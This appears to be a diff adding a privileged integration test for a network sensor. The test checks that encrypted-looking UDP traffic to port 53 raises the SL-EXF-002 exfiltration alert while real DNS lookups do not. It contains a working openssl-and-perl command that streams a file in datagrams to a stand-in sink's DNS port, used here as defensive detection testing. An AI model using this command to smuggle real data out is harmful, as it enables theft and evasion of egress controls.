@@ -1,0 +1,73 @@
+"""Ciphertext to an intruder's own port 53.
+
+Egress to port 53 is allowed where little else is. Everything sent there
+was counted as DNS framing without a look at it (header bytes, never
+opaque), and SL-EXF-002 skipped UDP 53 by its port: 3 MB of ciphertext in
+datagrams to the sink's port 53 raised nothing. Only DNS queries are DNS
+now; the rest is judged by its bytes. Beside it, a container that resolves
+names against the same server raises no SL-EXF-002."""
+
+from __future__ import annotations
+
+import time
+from pathlib import Path
+from typing import Any
+
+from tests.privileged.harness import SINK_IP, Docker, SensorProc, SinkNet, cid_of, run_container
+
+UPLOAD = 3_000_000
+# perl (in the test image): datagrams of 1,200 random bytes, paced so the
+# sink's DNS server keeps up
+SEND = (
+    "openssl rand {n} > /tmp/ct && perl -MIO::Socket::INET -e '"
+    'my $s = IO::Socket::INET->new(PeerAddr => "{ip}", PeerPort => 53, Proto => "udp") or die "socket: $!";'
+    'open(my $f, "<", "/tmp/ct") or die; binmode $f; my $b;'
+    "while (read($f, $b, 1200)) {{ $s->send($b); select(undef, undef, undef, 0.0005) }}'"
+)
+
+
+def _summary_of(d: dict[str, Any], cid: str) -> bool:
+    return d["event"]["action"] == "flow_summary" and cid_of(d) == cid and d["destination"]["port"] == 53
+
+
+def _exf2(d: dict[str, Any], cid: str) -> bool:
+    return d["event"]["kind"] == "alert" and d.get("rule", {}).get("id") == "SL-EXF-002" and cid_of(d) == cid
+
+
+def test_ciphertext_datagrams_to_port_53_are_raw(base: Path, docker: Docker, net: SinkNet) -> None:
+    s = SensorProc(base, docker.sock, name="dnsraw")
+    s.start()
+    try:
+        lookups = run_container(
+            docker,
+            net,
+            "for i in 1 2 3 4 5 6 7 8 9 10; do nslookup host$i.example.test " + SINK_IP + " >/dev/null 2>&1; done",
+            wait=True,
+        )
+        raw = run_container(docker, net, SEND.format(n=UPLOAD, ip=SINK_IP), wait=True)
+        a = s.wait_for(lambda d: _exf2(d, raw), what="SL-EXF-002 for ciphertext to port 53", timeout=20)
+        ev = a["sluice"]["evidence"]
+        assert ev["kind"] == "raw_encrypted_datagrams" and ev["protocol_hint"] is None, ev
+        assert ev["bytes"] >= 256 * 1024, ev  # the window that crossed the rule's threshold
+        assert a["destination"]["port"] == 53 and a["network"]["transport"] == "udp"
+        # over the windows the upload spanned, nearly all of it counted encrypted
+        deadline = time.monotonic() + 15
+        while sum(d["source"]["bytes"] for d in s.docs() if _summary_of(d, raw)) < UPLOAD:
+            assert time.monotonic() < deadline, "the upload's windows were not all summarised"
+            time.sleep(0.2)
+        enc = sum(d["sluice"]["payload"]["encrypted_bytes"] for d in s.docs() if _summary_of(d, raw))
+        assert enc >= 0.9 * UPLOAD, enc
+        # the datagrams reached the sink: the kernel let them out, the alert is the answer
+        got = sum(r["bytes"] for r in net.received() if r.get("proto") == "udp" and r.get("port") == 53)
+        assert got >= UPLOAD, got
+        # the real lookups: DNS, no SL-EXF-002
+        flows = [
+            d
+            for d in s.docs()
+            if d["event"]["action"] == "flow_summary" and cid_of(d) == lookups and d["destination"]["port"] == 53
+        ]
+        assert flows, "no flow summary for the lookups"
+        assert {f["network"].get("protocol") for f in flows} == {"dns"}, [f["network"] for f in flows]
+        assert not [d for d in s.docs() if _exf2(d, lookups)]
+    finally:
+        assert s.stop() == 0, s.stderr_text()
